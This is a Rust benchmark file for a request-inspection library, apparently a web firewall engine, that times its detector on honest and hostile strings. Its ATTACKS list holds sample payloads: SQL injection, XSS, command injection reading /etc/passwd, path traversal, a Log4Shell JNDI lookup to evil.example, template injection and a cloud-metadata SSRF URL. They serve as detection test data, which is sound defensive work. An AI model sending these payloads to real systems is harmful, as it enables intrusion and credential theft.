//! How fast strings are judged, and whether rightly: honest ones, one by one and joined, and the worst of hostile ones.
//!
//! `cargo bench -p sluicegate-benches`. The numbers due: honest strings at 400 MB/s, hostile ones at 40 MB/s, and a byte of
//! a long one costs no more than 1.3 times what a byte of a short one costs.

use criterion::{Criterion, Throughput, criterion_group, criterion_main};
use sluicegate::rules::{Context, Hits, Views};
use sluicegate::{ClassSet, Paranoia, rules};
use sluicegate_benches::{HONEST, HOSTILE, benign, inspector, judge};
use std::hint::black_box;
use std::time::Duration;

/// Attacks that must be found: a bench that judges nothing is fast.
const ATTACKS: &[&str] = &[
    "1' or '1'='1' -- ",
    "<img src=x onerror=alert(1)>",
    "; cat /etc/passwd",
    "../../../../etc/passwd",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "http://169.254.169.254/latest/meta-data/",
    "%2527%20union%20select%20password%20from%20users--%20",
];

fn verdicts(strings: &[&[u8]]) {
    let inspector = inspector(Paranoia::One);
    let mut views = Views::new();
    for (kind, strings) in HONEST {
        for string in *strings {
            let found = judge(&inspector, &mut views, [string.as_bytes()]);
            assert_eq!(found, 0, "{kind}: {string:?} is honest");
        }
    }
    for attack in ATTACKS {
        assert!(judge(&inspector, &mut views, [attack.as_bytes()]) > 0, "{attack:?} is an attack");
    }
    let refused = strings.iter().filter(|string| judge(&inspector, &mut views, [**string]) > 0).count();
    assert!(refused * 100 <= 2 * strings.len(), "{refused} of {} honest strings refused", strings.len());
}

fn honest(c: &mut Criterion) {
    let shared = benign();
    let strings: Vec<&[u8]> = shared.iter().map(String::as_bytes).collect();
    verdicts(&strings);
    let inspector = inspector(Paranoia::One);
    let mut views = Views::with_capacity(1 << 22);
    let mut group = c.benchmark_group("honest");
    let mut measure = |name: &str, strings: &[&[u8]]| {
        group.throughput(Throughput::Bytes(strings.iter().map(|string| string.len() as u64).sum()));
        group
            .bench_function(name, |b| b.iter(|| judge(&inspector, &mut views, strings.iter().copied().map(black_box))));
    };
    for (kind, strings) in HONEST {
        measure(kind, &strings.iter().map(|string| string.as_bytes()).collect::<Vec<_>>());
    }
    if !strings.is_empty() {
        measure("corpora", &strings);
        measure("corpora, joined", &[shared.join("\n").as_bytes()]);
    }
}

fn hostile(c: &mut Criterion) {
    let inspector = rules::Inspector::new(Paranoia::One, ClassSet::EMPTY);
    let mut views = Views::with_capacity(1 << 20);
    let mut group = c.benchmark_group("hostile");
    group.sample_size(10).warm_up_time(Duration::from_millis(20)).measurement_time(Duration::from_millis(200));
    for pattern in HOSTILE {
        for (name, len) in [("16 KB", 16 * 1024), ("1 MB", 1024 * 1024)] {
            let text = pattern.text(len);
            group.throughput(Throughput::Bytes(text.len() as u64));
            group.bench_function(format!("{:?} {:?} {:?}, {name}", pattern.lead, pattern.start, pattern.unit), |b| {
                b.iter(|| {
                    let mut hits = Hits::new(Paranoia::One);
                    inspector.inspect(&mut views, black_box(&text), Context::default(), &mut hits);
                    hits.rules().count()
                });
            });
        }
    }
}

criterion_group!(benches, honest, hostile);
criterion_main!(benches);
